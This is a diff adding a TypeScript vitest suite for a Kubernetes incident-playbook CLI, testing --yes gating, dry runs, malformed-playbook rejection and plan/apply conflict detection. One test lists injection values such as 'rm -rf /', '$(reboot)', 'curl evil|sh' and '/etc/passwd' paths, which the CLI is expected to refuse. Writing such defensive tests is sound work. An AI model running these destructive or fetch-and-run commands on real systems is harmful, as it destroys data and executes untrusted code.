@@ -1,0 +1,142 @@
+import { existsSync, readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { desiredState, openSimWorld, type SimWorld, writes } from './playbooks-sim.js';
+
+const FIXTURES = fileURLToPath(new URL('../fixtures/playbooks/', import.meta.url));
+
+describe('inc run refuses before any change', () => {
+  let world: SimWorld;
+  beforeAll(async () => {
+    world = await openSimWorld('bad-deploy');
+  });
+  afterAll(async () => world.close());
+
+  /** Runs inc and checks that it sent no request that writes (not even a dry run) and nothing changed. */
+  async function expectNothingChanged(
+    run: () => Promise<{ code: number | null; stderr: string }>,
+    allowDryRuns = false,
+  ): Promise<string> {
+    const before = desiredState(world.sim);
+    world.requests.length = 0;
+    const result = await run();
+    const sent = writes(world.requests);
+    if (allowDryRuns) expect(sent.filter((r) => !r.path.includes('dryRun=All'))).toEqual([]);
+    else expect(sent).toEqual([]);
+    expect(desiredState(world.sim)).toEqual(before);
+    return result.stderr;
+  }
+
+  it('without a terminal and without --yes: exit 2 naming --yes, nothing changed', async () => {
+    let code: number | null = null;
+    const stderr = await expectNothingChanged(async () => {
+      const result = await world.inc(['run', 'rollback', '-n', 'payments', '--set', 'deployment=api']);
+      code = result.code;
+      return result;
+    });
+    expect(code).toBe(2);
+    expect(stderr).toContain('--yes');
+  });
+
+  it('--dry-run shows the diff and the server dry run, exits 0 and changes nothing', async () => {
+    let stdout = '';
+    await expectNothingChanged(async () => {
+      const result = await world.inc(['run', 'rollback', '-n', 'payments', '--set', 'deployment=api', '--dry-run']);
+      expect(result.code).toBe(0);
+      stdout = result.stdout;
+      return result;
+    }, true);
+    expect(stdout).toContain('roll back deployment payments/api from revision 2 to revision 1');
+    expect(stdout).toContain('-        - image: registry.example.com/payments/api:2.3.1');
+    expect(stdout).toContain('+        - image: registry.example.com/payments/api:2.3.0');
+    expect(stdout).toContain('server-side dry run: passed');
+    expect(stdout).toContain('nothing was changed');
+  });
+
+  /** Runs the cases a few at a time (each is a process); every one must exit 2 with no write sent. */
+  async function expectAllRefused(cases: readonly (readonly string[])[]): Promise<string[]> {
+    const stderrs: string[] = [];
+    await expectNothingChanged(async () => {
+      const queue = cases.map((args, index) => ({ args, index }));
+      const worker = async () => {
+        for (let next = queue.shift(); next; next = queue.shift()) {
+          const result = await world.inc([...next.args, '--yes']);
+          expect({ args: next.args, code: result.code }).toEqual({ args: next.args, code: 2 });
+          stderrs[next.index] = result.stderr;
+        }
+      };
+      await Promise.all([worker(), worker(), worker(), worker()]);
+      return { code: 2, stderr: '' };
+    });
+    return stderrs;
+  }
+
+  it('refuses every malformed playbook of the corpus with exit 2, naming file:line:col', async () => {
+    const corpus = readdirSync(FIXTURES).filter((f) => f.endsWith('.yaml')).sort();
+    expect(corpus.length).toBeGreaterThanOrEqual(12);
+    const stderrs = await expectAllRefused(corpus.map((file) => ['run', join(FIXTURES, file)]));
+    corpus.forEach((file, index) => {
+      expect(stderrs[index]).toMatch(new RegExp(`${file.replace('.', '\\.')}(:\\d+:\\d+)?: `));
+    });
+  });
+
+  it('refuses invalid parameters (injection attempts included) with exit 2', async () => {
+    const badParams: string[][] = [
+      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=shop;rm -rf /'],
+      ['rollback', '--set', 'namespace=payments;rm -rf /', '--set', 'deployment=api'],
+      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=../../etc/passwd'],
+      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=api\nevil'],
+      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=$(reboot)'],
+      ['scale', '--set', 'namespace=payments', '--set', 'deployment=worker', '--set', 'replicas=-1'],
+      ['scale', '--set', 'namespace=payments', '--set', 'deployment=worker', '--set', 'replicas=3;reboot'],
+      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=api', '--set', 'timeout=forever'],
+      ['rollback', '--set', 'namespace=payments', '--set', 'deployment=api', '--set', 'force=true'],
+      ['pin-image', '--set', 'namespace=payments', '--set', 'deployment=api', '--set', 'container=api', '--set', 'image=api:1 && curl evil|sh'],
+      ['feature-flag', '--set', 'url=file:///etc/passwd', '--set', 'enabled=true'],
+      ['scale', '--set', 'namespace=payments', '--set', 'deployment=worker'],
+      ['rollbak', '--set', 'deployment=api'],
+    ];
+    const stderrs = await expectAllRefused(badParams.map((args) => ['run', ...args]));
+    for (const stderr of stderrs) expect(stderr).toMatch(/inc: error: /);
+    expect(stderrs[0]).toContain('invalid value for parameter "deployment"');
+  });
+
+  it('an unknown parameter lists the known ones', async () => {
+    const result = await world.inc(['run', 'scale', '--set', 'replica=3', '--yes']);
+    expect(result.stderr).toContain('playbook scale has no parameter "replica"');
+    expect(result.stderr).toContain('parameters: namespace, deployment, replicas, currentReplicas, timeout');
+  });
+});
+
+describe('a concurrent change between plan and apply', () => {
+  let world: SimWorld;
+  beforeAll(async () => {
+    world = await openSimWorld('bad-deploy');
+  });
+  afterAll(async () => world.close());
+
+  it('is reported as a 409 conflict and not overwritten', async () => {
+    const pause = join(world.home, 'pause');
+    const running = world.inc(['run', 'rollback', '-n', 'payments', '--set', 'deployment=api', '--yes'], {
+      INC_TEST_PAUSE_BEFORE_APPLY: pause,
+    });
+    const deadline = Date.now() + 20_000;
+    while (!existsSync(`${pause}.waiting`) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
+    expect(existsSync(`${pause}.waiting`)).toBe(true);
+    // A teammate changes the deployment in the window between the dry run and the apply.
+    const deployment = world.object('Deployment', 'payments', 'api');
+    const plannedVersion = deployment.metadata.resourceVersion;
+    deployment.metadata.annotations['team/changed-by'] = 'someone-else';
+    world.sim.state.update(deployment as never);
+    writeFileSync(`${pause}.go`, '');
+    const result = await running;
+
+    expect(result.code).toBe(1);
+    expect(result.stderr).toContain(`deployment payments/api changed since the plan (resourceVersion ${plannedVersion} → `);
+    expect(result.stderr).toContain('nothing was applied');
+    const after = world.object('Deployment', 'payments', 'api');
+    expect(after.metadata.annotations['team/changed-by']).toBe('someone-else');
+    expect(after.spec.template.spec.containers[0].image).toBe('registry.example.com/payments/api:2.3.1');
+  });
+});
